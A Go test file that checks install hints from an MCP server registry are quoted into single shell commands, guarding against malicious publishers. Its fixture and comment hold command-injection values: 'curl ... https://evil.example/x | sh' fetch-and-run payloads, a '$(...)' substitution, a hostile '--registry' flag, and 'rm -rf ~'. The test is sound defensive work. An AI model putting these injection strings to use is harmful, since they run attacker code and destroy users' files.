package discovery_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/harness-dev/harness/discovery"
	"github.com/harness-dev/harness/internal/shellquote/shellquotetest"
)

// skills discover --mcp prints, for each server an MCP registry lists,
// "how to run it": a command line built from the registry's identifier
// and version as they were written. Anyone may publish to a public
// registry. A version of `1.0.0 ; curl -s https://evil.example/x | sh #`
// comes out as a line that, pasted into a shell as the operator is
// invited to, runs the publisher's script. Each hint must be one command
// of exactly the words harness meant (the package and its version quoted
// or refused), whatever the registry wrote.
func TestMCPInstallHintIsOneCommandWhateverTheRegistryWrote(t *testing.T) {
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"servers":[{"server":{"name":"io.github.x/fs","description":"Files","version":"1.0.0",
		 "packages":[
		  {"registryType":"npm","identifier":"@scope/server-fs","version":"1.0.0 --registry=https://evil.example/ ; curl -s https://evil.example/x | sh #"},
		  {"registryType":"pypi","identifier":"srv$(curl -s https://evil.example/y|sh)","version":""},
		  {"registryType":"oci","identifier":"img","version":"1 ; rm -rf ~ #"}]}}]}`)
	}))
	defer registry.Close()
	servers, err := discovery.SearchMCP(context.Background(), nil, registry.URL, "fs", 5)
	if err != nil {
		t.Fatal(err)
	}
	if len(servers) != 1 {
		t.Fatalf("servers: %+v", servers)
	}
	want := map[string]int{"npx": 3, "uvx": 2, "docker": 5} // npx -y ID@V; uvx ID; docker run -i --rm ID:V
	for _, hint := range servers[0].Install {
		n, err := shellquotetest.Words(hint)
		if err != nil {
			t.Error(err)
			continue
		}
		if w := want[strings.Fields(hint)[0]]; n != w {
			t.Errorf("hint %q is %d words to a shell, not %d", hint, n, w)
		}
	}
}
